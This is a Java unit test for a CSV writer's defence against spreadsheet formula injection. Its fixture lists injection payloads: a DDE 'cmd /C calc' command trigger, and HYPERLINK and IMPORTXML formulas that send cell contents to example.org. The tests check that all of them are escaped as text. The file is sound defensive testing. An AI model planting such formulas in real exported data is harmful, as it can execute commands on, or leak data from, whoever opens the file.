package assay.report.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Objects;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever somebody writes, no spreadsheet reckons with it; and numbers stay numbers. */
class CsvWriterTest {
    private static final List<String> STARTS = List.of("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠");
    private static final List<String> ENDS = List.of(
            "",
            "1+1",
            "cmd|' /C calc'!A0",
            "SUM(1+1)*cmd|' /C calc'!A0",
            "HYPERLINK(\"http://example.org?x=\"&A1,\"click\")",
            "IMPORTXML(CONCAT(\"http://example.org?v=\",A1),\"//a\")",
            "\"=1+1",
            "1;=1+1,=1+1");

    @TempDir
    Path folder;

    private static Stream<String> corpus() {
        return STARTS.stream().flatMap(start -> ENDS.stream().map(end -> start + end));
    }

    private static Document document() {
        var columns = List.of(new Block.Column("name", 1, false), new Block.Column("amount", 1, true));
        var rows = corpus().map(text -> List.of(Value.words(text), Value.amount(new BigDecimal("-12.5"))))
                .toList();
        var table = new Block.Table("rows", columns, rows, List.of());
        return new Document("t", "T", "s", Instant.EPOCH, "h", "rows", List.of(table));
    }

    @Test
    void textThatWouldBeAFormulaIsMarkedAsText() {
        corpus().forEach(text -> assertThat(CsvWriter.cell(Value.words(text))).startsWith("\"'"));
        assertThat(CsvWriter.cell(Value.words("a=1"))).isEqualTo("\"a=1\"");
        assertThat(CsvWriter.cell(Value.words("say \"so\", twice"))).isEqualTo("\"say \"\"so\"\", twice\"");
    }

    @ParameterizedTest
    @ValueSource(strings = {"0", "-12.5", "25000", "-0.00000001", "99999999999.12345678"})
    void numbersStayNumbers(String number) {
        assertThat(CsvWriter.cell(Value.amount(new BigDecimal(number)))).isEqualTo(number);
    }

    @Test
    void whatIsNotDefinedIsEmpty() {
        assertThat(CsvWriter.cell(Value.ratio(Double.NaN))).isEqualTo("\"\"");
        assertThat(CsvWriter.cell(Value.ratio(1e-12))).matches("0\\.0+1");
    }

    /** Where LibreOffice is installed it reads the whole corpus, and its own format holds no formula. */
    @Test
    void libreOfficeFindsNoFormula() throws IOException, InterruptedException {
        var office = Stream.of("/usr/bin/soffice", "/usr/bin/libreoffice", "/opt/libreoffice/program/soffice")
                .map(Path::of)
                .filter(Files::isExecutable)
                .findFirst();
        assumeTrue(office.isPresent(), "LibreOffice is not installed");
        Files.write(folder.resolve("corpus.csv"), Format.CSV.write(document()));
        var process = new ProcessBuilder(
                        office.orElseThrow().toString(),
                        "-env:UserInstallation=" + folder.resolve("profile").toUri(),
                        "--headless",
                        "--convert-to",
                        "fods",
                        "--outdir",
                        folder.toString(),
                        folder.resolve("corpus.csv").toString())
                .redirectInput(Path.of("/dev/null").toFile())
                .redirectErrorStream(true)
                .redirectOutput(folder.resolve("log").toFile())
                .start();
        assertThat(process.waitFor(3, TimeUnit.MINUTES)).isTrue();
        var sheet = Files.readString(folder.resolve("corpus.fods"), StandardCharsets.UTF_8);
        assertThat(Objects.requireNonNull(sheet)).doesNotContain("table:formula");
        assertThat(sheet.split("office:value=\"-12.5\"", -1).length - 1).isEqualTo((int) corpus().count());
    }
}
